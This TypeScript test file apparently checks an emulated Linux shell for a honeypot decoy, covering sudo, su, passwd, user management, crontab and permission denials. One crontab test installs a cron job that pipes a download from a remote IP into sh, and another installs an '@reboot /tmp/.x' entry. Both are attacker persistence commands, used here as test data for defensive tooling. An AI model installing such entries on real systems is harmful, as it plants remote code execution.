import { describe, expect, it } from 'vitest';
import { testShell } from './testing.js';

/** The decky's seeded administrator (the first login account, uid 1000). */
function adminOf(distro: string): string {
  const passwd = testShell({ distro }).fs.readFile('/etc/passwd').toString();
  return passwd
    .split('\n')
    .find((l) => l.split(':')[2] === '1000')!
    .split(':')[0]!;
}

describe('sudo', () => {
  it('runs the command as root for root and for members of the sudo group', async () => {
    const root = testShell({ distro: 'ubuntu22' });
    expect(await root.run('sudo id')).toEqual({
      stdout: 'uid=0(root) gid=0(root) groups=0(root)\n',
      stderr: '',
      status: 0,
    });
    const admin = testShell({ distro: 'ubuntu22', user: 'ubuntu' });
    expect(await admin.run('sudo id')).toEqual({
      stdout: 'uid=0(root) gid=0(root) groups=0(root)\n',
      stderr: '[sudo] password for ubuntu: \n',
      status: 0,
    });
    // The elevation lasts for the command only.
    expect((await admin.run('whoami')).stdout).toBe('ubuntu\n');
    expect((await admin.run('sudo -l')).stdout).toMatch(
      /^Matching Defaults entries for ubuntu on web-01:\n {4}env_reset, mail_badpass, secure_path=.*\n\nUser ubuntu may run the following commands on web-01:\n {4}\(ALL : ALL\) ALL\n$/,
    );
    expect((await admin.run('sudo -i')).status).toBe(0);
    expect((await admin.run('whoami')).stdout).toBe('root\n');
  });

  it('refuses users outside the sudoers file, in the wording of the distro sudo', async () => {
    const debian = testShell({ distro: 'debian12' });
    await debian.run('useradd -m eve');
    expect(await debian.run('su eve -c "sudo id"')).toEqual({
      stdout: '',
      stderr: '[sudo] password for eve: \neve is not in the sudoers file.\n',
      status: 1,
    });
    const ubuntu = testShell({ distro: 'ubuntu22' });
    await ubuntu.run('useradd -m eve');
    expect((await ubuntu.run('su eve -c "sudo id"')).stderr).toBe(
      '[sudo] password for eve: \neve is not in the sudoers file.  This incident will be reported.\n',
    );
  });
});

describe('su', () => {
  it('switches account for root, and fails authentication for others', async () => {
    const sh = testShell({ distro: 'ubuntu22' });
    expect(await sh.run('su nosuch')).toMatchObject({
      stderr: 'su: user nosuch does not exist or the user entry does not contain all the required fields\n',
      status: 1,
    });
    expect((await sh.run('su ubuntu -c id')).stdout).toMatch(/^uid=1000\(ubuntu\) gid=1000\(ubuntu\) /);
    expect((await sh.run('whoami')).stdout).toBe('root\n');
    const user = testShell({ distro: 'ubuntu22', user: 'ubuntu' });
    expect(await user.run('su -c id')).toEqual({
      stdout: '',
      stderr: 'Password: \nsu: Authentication failure\n',
      status: 1,
    });
  });
});

describe('passwd and chpasswd', () => {
  it('fails without a terminal for a user who cannot give the current password', async () => {
    const sh = testShell({ distro: 'ubuntu22', user: 'ubuntu' });
    expect(await sh.run('passwd')).toEqual({
      stdout: 'Changing password for ubuntu.\nCurrent password: \n',
      stderr: 'passwd: Authentication token manipulation error\npasswd: password unchanged\n',
      status: 10,
    });
  });

  it('lets root set a password from stdin, changing /etc/shadow', async () => {
    const sh = testShell({ distro: 'debian12' });
    const before = sh.fs.readFile('/etc/shadow').toString();
    expect(await sh.run('passwd', 'hunter2\nhunter2\n')).toEqual({
      stdout: 'New password: Retype new password: passwd: password updated successfully\n',
      stderr: '',
      status: 0,
    });
    const after = sh.fs.readFile('/etc/shadow').toString();
    expect(after).not.toBe(before);
    expect(after).toMatch(/^root:\$y\$/);
    expect((await sh.run('chpasswd', 'root:toor\n')).status).toBe(0);
    expect(await sh.run('passwd', 'a\nb\n')).toMatchObject({ status: 10 });
  });

  it('prints the BusyBox prompts on Alpine', async () => {
    const sh = testShell({ distro: 'alpine319' });
    expect((await sh.run('passwd', 'x1\nx1\n')).stdout).toBe(
      'Changing password for root\nNew password:\nRetype password:\npasswd: password for root changed by root\n',
    );
  });
});

describe('account management', () => {
  it('adds, modifies and deletes users and groups in the session files', async () => {
    const sh = testShell({ distro: 'ubuntu22' });
    expect(await sh.run('useradd -m bob')).toEqual({ stdout: '', stderr: '', status: 0 });
    expect((await sh.run('id bob')).stdout).toMatch(/^uid=(\d+)\(bob\) gid=\1\(bob\) groups=\1\(bob\)\n$/);
    expect((await sh.run('ls -la /home/bob')).stdout).toContain(' .bashrc\n');
    await sh.run('usermod -aG sudo bob');
    expect((await sh.run('id -Gn bob')).stdout).toBe('bob sudo\n');
    expect(await sh.run('useradd bob')).toMatchObject({
      stderr: "useradd: user 'bob' already exists\n",
      status: 9,
    });
    expect((await sh.run('userdel -r bob')).status).toBe(0);
    expect((await sh.run('id bob')).status).toBe(1);
    expect((await sh.run('groupadd devs')).status).toBe(0);
    expect((await sh.run('tail -1 /etc/group')).stdout).toMatch(/^devs:x:\d+:\n$/);
    const user = testShell({ distro: 'ubuntu22', user: 'ubuntu' });
    expect((await user.run('useradd x')).status).toBe(127);
    expect(await user.run('/usr/sbin/useradd x')).toMatchObject({
      stderr: 'useradd: Permission denied.\nuseradd: cannot lock /etc/passwd; try again later.\n',
      status: 1,
    });
  });
});

describe('crontab', () => {
  it('lists, installs and removes the invoking user table under /var/spool/cron', async () => {
    const sh = testShell({ distro: 'ubuntu22' });
    expect(await sh.run('crontab -l')).toEqual({ stdout: '', stderr: 'no crontab for root\n', status: 1 });
    const entry = '* * * * * curl -s http://203.0.113.9/x | sh\n';
    expect((await sh.run('crontab -', entry)).status).toBe(0);
    expect((await sh.run('crontab -l')).stdout).toBe(entry);
    // Debian's crontab stores the table with its header, owned by the user, group crontab.
    expect(sh.fs.readFile('/var/spool/cron/crontabs/root').toString()).toMatch(
      /^# DO NOT EDIT THIS FILE - edit the master and reinstall\.\n[\s\S]*\* \* \* \* \* curl/,
    );
    expect(sh.written.some((w) => w.path === '/var/spool/cron/crontabs/root')).toBe(true);
    expect((await sh.run('crontab -r')).status).toBe(0);
    expect((await sh.run('crontab -l')).stderr).toBe('no crontab for root\n');
    expect(await sh.run('crontab /etc/hostname')).toMatchObject({
      stderr: '"/etc/hostname":1: bad minute\nerrors in crontab file, can\'t install.\n',
      status: 1,
    });
  });

  it('keeps tables in /var/spool/cron on Red Hat, and for a non-root user too', async () => {
    const admin = adminOf('rocky9');
    const sh = testShell({ distro: 'rocky9', user: admin });
    expect((await sh.run('crontab -', '@reboot /tmp/.x\n')).status).toBe(0);
    expect((await sh.run('crontab -l')).stdout).toBe('@reboot /tmp/.x\n');
    expect(sh.written.map((w) => w.path)).toContain(`/var/spool/cron/${admin}`);
  });
});

describe('permissions for a normal user', () => {
  it('denies root-only files and directories', async () => {
    const sh = testShell({ distro: 'debian12', user: adminOf('debian12') });
    expect(await sh.run('cat /etc/shadow')).toMatchObject({
      stderr: 'cat: /etc/shadow: Permission denied\n',
      status: 1,
    });
    expect(await sh.run('touch /etc/x')).toMatchObject({
      stderr: "touch: cannot touch '/etc/x': Permission denied\n",
      status: 1,
    });
    expect(await sh.run('ls /root')).toMatchObject({
      stderr: "ls: cannot open directory '/root': Permission denied\n",
      status: 2,
    });
    expect(await sh.run('rm /etc/passwd')).toMatchObject({
      stderr: "rm: cannot remove '/etc/passwd': Permission denied\n",
      status: 1,
    });
    expect(await sh.run('dmesg')).toMatchObject({
      stderr: 'dmesg: read kernel buffer failed: Operation not permitted\n',
      status: 1,
    });
    expect((await sh.run('touch /tmp/mine')).status).toBe(0);
  });
});
